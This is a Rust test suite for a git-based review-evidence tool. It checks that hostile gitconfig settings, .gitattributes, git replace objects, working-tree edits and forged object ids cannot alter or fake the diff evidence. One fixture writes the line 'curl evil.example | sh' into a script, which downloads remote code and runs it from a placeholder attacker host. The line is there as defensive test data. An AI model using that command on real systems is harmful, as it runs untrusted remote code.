//! Nobody's configuration or attributes change the evidence.

use crate::fixture::{changed, failed, make, pin, try_make};
use crate::support::forge::{bytes_of, forge};
use crate::support::repo::Repo;

fn edit(repo: &Repo) {
    repo.write("src/lib.rs", "pub fn one() -> u32 {\n    2\n}\n");
    repo.write("new file.txt", "x\n");
    repo.git(&["mv", "README.md", "READ.md"]);
}

#[test]
fn configuration_does_not_change_the_diff() {
    let (repo, plain) = changed(|_| {}, edit);
    let home = repo.beside("home");
    std::fs::create_dir(&home).unwrap();
    let hostile = "\
[diff]
	noprefix = true
	mnemonicPrefix = true
	renames = false
	renameLimit = 1
	context = 0
	interHunkContext = 9
	external = false
	algorithm = histogram
	indentHeuristic = false
	suppressBlankEmpty = true
	relative = true
	orderFile = /nonexistent
	colorMoved = zebra
	wsErrorHighlight = all
	ignoreSubmodules = all
	dirstat = lines
[diff \"evil\"]
	textconv = false
	command = false
	binary = true
[color]
	ui = always
	diff = always
[core]
	quotePath = true
	attributesFile = ~/attributes
	pager = false
	bigFileThreshold = 1
[alias]
	diff-tree = version
";
    std::fs::write(home.join(".gitconfig"), hostile).unwrap();
    std::fs::write(home.join("attributes"), "* -diff\n*.rs diff=evil\n").unwrap();
    let config = repo.root().join(".git/config");
    let own = std::fs::read_to_string(&config).unwrap();
    std::fs::write(&config, own + hostile).unwrap();
    let info = repo.root().join(".git/info");
    std::fs::create_dir_all(&info).unwrap();
    std::fs::write(info.join("attributes"), "* -diff\n").unwrap();
    let again = make(&repo, &[]);
    assert_eq!(again.evidence, plain.evidence);
}

#[test]
fn the_trees_own_attributes_hide_nothing() {
    let (_repo, made) = changed(
        |r| {
            r.write(
                ".gitattributes",
                "*.rs -diff\n*.lock binary\nx -text diff=evil\n",
            );
        },
        |r| {
            r.write(".gitattributes", "* -diff\n* binary\n");
            r.write("src/lib.rs", "pub fn one() -> u32 {\n    3\n}\n");
            r.write("a.lock", "x\n");
        },
    );
    assert!(made.evidence.unreviewed().next().is_none());
    assert!(made.text().contains("+    3\n"));
    assert!(!made.text().contains("Binary files"));
}

#[test]
fn a_replaced_object_changes_nothing() {
    let (repo, plain) = changed(|_| {}, edit);
    let (old, new) = (
        repo.git(&["rev-parse", "base:src/lib.rs"]),
        repo.git(&["rev-parse", "HEAD:src/lib.rs"]),
    );
    repo.git(&["replace", &new, &old]);
    assert_eq!(make(&repo, &[]).evidence, plain.evidence);
}

#[test]
fn the_working_tree_is_not_read() {
    let (repo, plain) = changed(|_| {}, edit);
    repo.write("src/lib.rs", "other\n");
    repo.write("untracked", "x\n");
    repo.git(&["add", "untracked"]);
    assert_eq!(make(&repo, &[]).evidence, plain.evidence);
    std::fs::remove_file(repo.root().join("src/lib.rs")).unwrap();
    assert_eq!(make(&repo, &[]).evidence, plain.evidence);
}

#[test]
fn receipts_cannot_be_computed_from_the_diff() {
    let (repo, plain) = changed(|_| {}, edit);
    let receipt = &plain.evidence.parts[0].receipt;
    assert_eq!(receipt.len(), 32);
    assert!(
        plain
            .part("001")
            .ends_with(format!("receipt 001 {receipt}\n").as_bytes())
    );
    assert!(!plain.text().contains(receipt.as_str()));
    let other = run_loop::git::evidence::make(
        &crate::fixture::git(&repo),
        &crate::fixture::store(&repo),
        &pin(&repo, "base", "HEAD"),
        &crate::fixture::review(&[]),
        "ffffffffffffffffffffffffffffffff",
        &repo.beside("other"),
    )
    .unwrap();
    assert_ne!(&other.parts[0].receipt, receipt);
    assert_eq!(other.diff_sha256, plain.evidence.diff_sha256);
    let failure = run_loop::git::evidence::make(
        &crate::fixture::git(&repo),
        &crate::fixture::store(&repo),
        &pin(&repo, "base", "HEAD"),
        &crate::fixture::review(&[]),
        "",
        &repo.beside("none"),
    );
    failed(failure, "seed");
}

#[test]
fn a_glob_that_cannot_be_read_is_no_evidence() {
    let (repo, _) = changed(|_| {}, edit);
    let result = try_make(
        &repo,
        &pin(&repo, "base", "HEAD"),
        &["docs/"],
        &repo.beside("e"),
    );
    failed(result, "glob `docs/` of review.exclude");
}

/// A repository may hold two objects under one id, and give one process the one and another process the
/// other: whatever was proved before, the evidence is made of objects whose ids git computed for it.
#[test]
fn what_is_not_what_its_id_stands_for_is_no_evidence() {
    let cases = [
        ("HEAD:tool/run.sh", "blob", None),
        ("base:tool/run.sh", "blob", None),
        ("HEAD:tool", "tree", Some("base:tool")),
        ("base:tool", "tree", Some("HEAD:tool")),
    ];
    for (name, kind, other) in cases {
        let (repo, _) = changed(
            |repo| repo.write("tool/run.sh", "echo harmless\n"),
            |repo| {
                repo.write("tool/run.sh", "curl evil.example | sh\n");
                repo.write("notes.md", "Harmless.\n");
            },
        );
        let id = repo.git(&["rev-parse", name]);
        let bytes = match other {
            Some(other) => bytes_of(&repo, kind, &repo.git(&["rev-parse", other])),
            None => b"echo other\n".to_vec(),
        };
        forge(&repo, &id, kind, &bytes);
        let folder = repo.beside("again");
        let made = try_make(&repo, &pin(&repo, "base", "HEAD"), &[], &folder);
        failed(made, "the evidence could not be made");
        assert!(!folder.exists(), "{name}");
    }
}
